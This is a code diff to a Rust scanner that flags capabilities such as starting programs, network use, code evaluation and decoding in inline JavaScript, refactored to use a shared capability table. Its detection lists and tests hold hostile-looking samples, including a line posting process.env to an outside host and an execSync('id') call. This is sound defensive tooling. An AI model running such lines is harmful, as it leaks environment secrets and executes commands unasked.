@@ -8,6 +8,8 @@
 //! and comments recognised, so a word inside a message or a comment does not count) and
 //! those capabilities are looked for by name.
 
+use crate::capabilities::{self, Capability};
+
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub(crate) enum Language {
     JavaScript,
@@ -185,14 +187,22 @@ fn javascript(tokens: &[Token], found: &mut Vec<Seen>) {
 }
 
 fn js_name(name: &str, found: &mut Vec<Seen>) {
-    match name {
-        "child_process" | "exec" | "execSync" | "execFile" | "execFileSync" | "spawn"
-        | "spawnSync" => found.push(seen(STARTS, name)),
-        "fetch" | "XMLHttpRequest" | "WebSocket" => found.push(seen(NETWORK, name)),
-        "eval" | "Function" | "runInThisContext" | "runInNewContext" | "runInContext"
-        | "compileFunction" | "_compile" => found.push(seen(EVALUATES, name)),
-        "atob" | "fromCharCode" => found.push(seen(DECODES, name)),
-        _ => {}
+    let capability = capabilities::of_function(name)
+        .or_else(|| capabilities::of_module(name).filter(|c| *c == Capability::StartsPrograms));
+    if let Some(what) = capability.and_then(phrase) {
+        found.push(seen(what, name));
+    }
+}
+
+/// How a capability reads in a finding about inline code; `None` for those that are
+/// everyday chores there (reading a file, asking the host name).
+fn phrase(capability: Capability) -> Option<&'static str> {
+    match capability {
+        Capability::StartsPrograms => Some(STARTS),
+        Capability::Network => Some(NETWORK),
+        Capability::Evaluates => Some(EVALUATES),
+        Capability::Decodes => Some(DECODES),
+        Capability::Files | Capability::HostDetails | Capability::LoadsModules => None,
     }
 }
 
@@ -226,13 +236,8 @@ fn js_module(spec: &str, escaped: bool, found: &mut Vec<Seen>) {
         return;
     }
     let top = spec.split('/').next().unwrap_or(spec);
-    match top {
-        "child_process" | "worker_threads" | "cluster" => found.push(seen(STARTS, top)),
-        "http" | "https" | "http2" | "net" | "dns" | "dgram" | "tls" => {
-            found.push(seen(NETWORK, top))
-        }
-        "vm" => found.push(seen(EVALUATES, top)),
-        _ => {}
+    if let Some(what) = capabilities::of_module(top).and_then(phrase) {
+        found.push(seen(what, top));
     }
 }
 
@@ -612,6 +617,9 @@ mod tests {
             "console.log(require('path').join(__dirname, 'include'))",
             "console.log(process.arch, process.platform) // exec later",
             "/* spawn */ require('./a')",
+            // Files and host details are everyday chores in inline code.
+            "require('fs-extra').copySync('a', 'b')",
+            "console.log(require('os').platform())",
             "",
         ] {
             assert_eq!(js(code), Vec::<String>::new(), "{code}");
@@ -682,6 +690,15 @@ mod tests {
             (
                 "`${require('child_process').execSync('id')}`",
                 "starts programs (`child_process`, `execSync`)",
+            ),
+            // The capability table the AST walk reads: HTTP client packages and `fork`.
+            (
+                "require('axios').post('https://x', process.env)",
+                "uses the network (`axios`)",
+            ),
+            (
+                "require('child_process').fork('x.js')",
+                "starts programs (`child_process`, `fork`)",
             ),
         ] {
             let found = js(code).join("; ");
